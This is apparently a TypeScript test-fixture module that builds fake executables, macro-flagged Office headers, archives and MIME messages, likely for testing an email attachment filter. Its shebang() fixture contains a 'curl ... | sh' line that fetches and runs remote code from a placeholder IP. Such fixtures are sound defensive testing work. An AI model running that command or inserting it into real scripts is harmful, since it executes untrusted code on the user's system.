/**
 * Builders for the test corpus: real file bytes (PE, ELF, OLE, zip, tar, ISO...) and MIME messages
 * written byte by byte, so each case says exactly which headers and encodings it uses.
 */
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import yazl from 'yazl';
import tar from 'tar-stream';

/** A marker that makes a payload recognisable in what the next hop received. */
export function marker(tag: string): string {
  return `PAYLOAD-${tag}-${randomBytes(6).toString('hex')}`;
}

export function pe(tag: string): Buffer {
  const b = Buffer.alloc(1024);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84);
  b.write(marker(tag), 0x200, 'latin1');
  return b;
}

export function elf(tag: string): Buffer {
  return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.from(marker(tag))]);
}

export function machO(tag: string): Buffer {
  return Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]), Buffer.alloc(52), Buffer.from(marker(tag))]);
}

export function shebang(tag: string): Buffer {
  return Buffer.from(`#!/bin/sh\n# ${marker(tag)}\ncurl http://198.51.100.1/x | sh\n`);
}

/** An OLE compound file header with UTF-16LE directory names; `_VBA_PROJECT` means macros. */
export function ole(withMacros: boolean, tag: string): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  const names = ['Root Entry', 'WordDocument', '1Table', 'SummaryInformation', ...(withMacros ? ['Macros', 'VBA', '_VBA_PROJECT', 'dir'] : [])];
  const dir = Buffer.alloc(128 * names.length);
  names.forEach((n, i) => {
    dir.write(n, i * 128, 'utf16le');
    dir.writeUInt16LE((n.length + 1) * 2, i * 128 + 64);
  });
  // Put the directory well after the first chunk, as in real files.
  return Buffer.concat([header, Buffer.alloc(70_000, 0x20), Buffer.from(marker(tag)), dir]);
}

export function iso(tag: string): Buffer {
  const b = Buffer.alloc(0x8800);
  b.write('\x01CD001\x01', 0x8000, 'latin1');
  b.write(marker(tag), 0x8100, 'latin1');
  return b;
}

export function pdf(): Buffer {
  return Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1');
}

export function png(): Buffer {
  return Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea73581e40000000049454e44ae426082', 'hex');
}

export function sevenZip(tag: string): Buffer {
  return Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(24), Buffer.from(marker(tag))]);
}

/** A zip built with yazl; `encrypt` sets the "encrypted" flag on every member (as ZipCrypto does). */
export async function zip(entries: Array<{ name: string; data: Buffer; store?: boolean }>, encrypt = false): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const e of entries) {
    if (e.name.endsWith('/')) z.addEmptyDirectory(e.name, { mtime: new Date(2024, 0, 1) });
    else z.addBuffer(e.data, e.name, { compress: !e.store, mtime: new Date(2024, 0, 1) });
  }
  z.end();
  const chunks: Buffer[] = [];
  for await (const c of z.outputStream as AsyncIterable<Buffer>) chunks.push(c);
  const buf = Buffer.concat(chunks);
  if (encrypt) setEncryptedFlags(buf);
  return buf;
}

function setEncryptedFlags(buf: Buffer): void {
  for (let i = 0; i + 4 <= buf.length; i++) {
    const sig = buf.readUInt32LE(i);
    if (sig === 0x04034b50) buf.writeUInt16LE(buf.readUInt16LE(i + 6) | 1, i + 6);
    else if (sig === 0x02014b50) buf.writeUInt16LE(buf.readUInt16LE(i + 8) | 1, i + 8);
  }
}

export async function tarball(entries: Array<{ name: string; data: Buffer }>, gzip = false): Promise<Buffer> {
  const pack = tar.pack();
  for (const e of entries) pack.entry({ name: e.name, size: e.data.length, mtime: new Date(2024, 0, 1) }, e.data);
  pack.finalize();
  const chunks: Buffer[] = [];
  for await (const c of pack as unknown as AsyncIterable<Buffer>) chunks.push(Buffer.from(c));
  const buf = Buffer.concat(chunks);
  return gzip ? gzipSync(buf) : buf;
}

export function uuencode(name: string, data: Buffer): string {
  const lines = [`begin 644 ${name}`];
  for (let i = 0; i < data.length; i += 45) {
    const slice = data.subarray(i, i + 45);
    let line = String.fromCharCode(32 + slice.length);
    for (let j = 0; j < slice.length; j += 3) {
      const a = slice[j]!, b = slice[j + 1] ?? 0, c = slice[j + 2] ?? 0;
      for (const v of [a >> 2, ((a & 3) << 4) | (b >> 4), ((b & 15) << 2) | (c >> 6), c & 63]) line += v === 0 ? '`' : String.fromCharCode(32 + v);
    }
    lines.push(line);
  }
  lines.push('`', 'end');
  return lines.join('\r\n');
}

export function gzip(data: Buffer): Buffer {
  return gzipSync(data);
}

/** One MIME part as the test writes it. */
export interface PartSpec {
  /** Header lines after Content-Type, e.g. `Content-Disposition: attachment; filename="a.pdf"`. */
  headers: string[];
  contentType: string;
  body: Buffer | string;
  /** base64 (default for Buffers), 7bit (default for strings), or quoted-printable as given. */
  encoding?: 'base64' | '7bit' | '8bit';
  /** Leave the Content-Type line out (`contentType` is then ignored). */
  noContentType?: boolean;
}

export function b64(data: Buffer): string {
  return data.toString('base64').replace(/.{76}/g, '$&\r\n');
}

export function encodePart(p: PartSpec): string {
  const enc = p.encoding ?? (Buffer.isBuffer(p.body) ? 'base64' : '7bit');
  const body = enc === 'base64' ? b64(Buffer.isBuffer(p.body) ? p.body : Buffer.from(p.body)) : p.body.toString();
  return [...(p.noContentType ? [] : [`Content-Type: ${p.contentType}`]), `Content-Transfer-Encoding: ${enc}`, ...p.headers, '', body].join('\r\n');
}

export function attachment(filename: string, data: Buffer, contentType = 'application/octet-stream'): PartSpec {
  return { contentType: `${contentType}; name="${filename}"`, headers: [`Content-Disposition: attachment; filename="${filename}"`], body: data };
}

let seq = 0;
/** A whole multipart/mixed message with a text body first. */
export function message(subject: string, parts: PartSpec[], opts: { text?: string; from?: string; to?: string } = {}): string {
  const boundary = `=_b${++seq}_${randomBytes(4).toString('hex')}`;
  const head = [
    `From: ${opts.from ?? 'sender@remote.test'}`,
    `To: ${opts.to ?? 'bob@example.com'}`,
    `Subject: ${subject}`,
    `Message-ID: <case${seq}.${randomBytes(4).toString('hex')}@remote.test>`,
    'Date: Mon, 01 Jan 2024 10:00:00 +0000',
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    '',
    'This is a multi-part message in MIME format.',
  ];
  const text: PartSpec = { contentType: 'text/plain; charset=utf-8', body: opts.text ?? `Hello,\r\nplease see the attached file.\r\n`, headers: [] };
  const body = [text, ...parts].map((p) => `--${boundary}\r\n${encodePart(p)}\r\n`).join('');
  return head.join('\r\n') + '\r\n' + body + `--${boundary}--\r\n`;
}

/** A text-only message (for uuencode cases). */
export function plainMessage(subject: string, text: string): string {
  seq++;
  return [
    'From: sender@remote.test',
    'To: bob@example.com',
    `Subject: ${subject}`,
    `Message-ID: <case${seq}@remote.test>`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=us-ascii',
    'Content-Transfer-Encoding: 7bit',
    '',
    text,
    '',
  ].join('\r\n');
}
